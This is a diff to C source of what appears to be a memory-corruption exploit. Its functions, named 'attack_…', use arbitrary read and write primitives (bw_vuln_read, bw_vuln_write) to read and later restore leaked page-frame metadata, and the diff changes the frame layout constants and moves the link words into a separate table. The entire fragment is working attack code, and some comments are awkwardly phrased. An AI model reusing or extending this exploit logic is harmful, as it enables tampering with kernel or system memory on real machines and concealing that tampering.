@@ -4,10 +4,10 @@
 
 #include "attack.h"
 
-enum { SLOT_BYTES = 4, FRAME_BYTES = 16, HISTORY_BYTES = 8 };
+enum { SLOT_BYTES = 4, FRAME_BYTES = 8, HISTORY_BYTES = 8 };
 /* Of the first word of a frame's entry: the owner, which is 1 of a free one, and a flag. */
 enum { OWNER_FREE = 1 };
-#define FLAG_HIDDEN 0x10000ul
+#define FLAG_HIDDEN 0x100ul
 
 /* In the same GiB: no table but these two is missing. */
 volatile char *attack_ranges(bool has_second)
@@ -73,7 +73,8 @@ void attack_frame_books_read(const struct bw_leak *leak, uint64_t pfn,
 {
 	books->place = leak->frames + pfn * FRAME_BYTES;
 	books->state = (uint64_t)bw_vuln_read(books->place);
-	books->links = (uint64_t)bw_vuln_read(books->place + FRAME_BYTES / 2);
+	books->links_place = leak->frame_links + pfn * FRAME_BYTES;
+	books->links = (uint64_t)bw_vuln_read(books->links_place);
 	books->history_place = leak->histories + pfn * HISTORY_BYTES;
 	books->history = (uint64_t)bw_vuln_read(books->history_place);
 }
@@ -81,7 +82,7 @@ void attack_frame_books_read(const struct bw_leak *leak, uint64_t pfn,
 void attack_frame_books_restore(const struct attack_frame_books *books)
 {
 	attack_check("vuln_write", bw_vuln_write(books->place, books->state));
-	attack_check("vuln_write", bw_vuln_write(books->place + FRAME_BYTES / 2, books->links));
+	attack_check("vuln_write", bw_vuln_write(books->links_place, books->links));
 	attack_check("vuln_write", bw_vuln_write(books->history_place, books->history));
 }
 
